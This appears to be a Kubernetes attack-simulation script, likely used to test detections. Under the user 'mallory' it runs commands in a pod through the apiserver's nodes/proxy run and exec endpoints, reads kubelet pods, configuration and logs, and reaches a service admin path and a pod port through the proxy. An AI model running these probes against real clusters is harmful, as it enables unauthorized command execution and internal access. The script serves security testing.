# Through the apiserver. 01-looking-around.sh says how to read this.

#: kubelet-run | D128 D129 | mallory
pod=$(kubectl get pods -n monitoring -l app=node-exporter --field-selector spec.nodeName=worker-1 -o 'jsonpath={.items[0].metadata.name}')
kubectl create --raw "/api/v1/nodes/worker-1/proxy/run/monitoring/$pod/node-exporter?cmd=id" -f /dev/null
#: kubelet-exec | D128 D129 | mallory
pod=$(kubectl get pods -n monitoring -l app=node-exporter --field-selector spec.nodeName=worker-1 -o 'jsonpath={.items[0].metadata.name}')
curl -s -o /dev/null -m 2 --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: bm90IGEgc2VjcmV0IGtleQ==' -H 'Sec-WebSocket-Protocol: v4.channel.k8s.io' \
  "$SERVER/api/v1/nodes/https:worker-1:10250/proxy/exec/monitoring/$pod/node-exporter?command=id&output=1" || true
#: kubelet-pods | D128 | mallory
kubectl get --raw /api/v1/nodes/worker-1/proxy/pods >/dev/null
#: kubelet-debug | D131 | mallory
kubectl get --raw /api/v1/nodes/worker-1/proxy/configz >/dev/null
kubectl get --raw /api/v1/nodes/worker-1/proxy/logs/ || true
#: service-proxy | D130 | mallory
kubectl get --raw /api/v1/namespaces/shop/services/cart:80/proxy/admin || true
#: pod-proxy | D130 | mallory
pod=$(kubectl get pods -n shop -l app=cart -o 'jsonpath={.items[0].metadata.name}')
kubectl get --raw "/api/v1/namespaces/shop/pods/$pod:8080/proxy/" || true
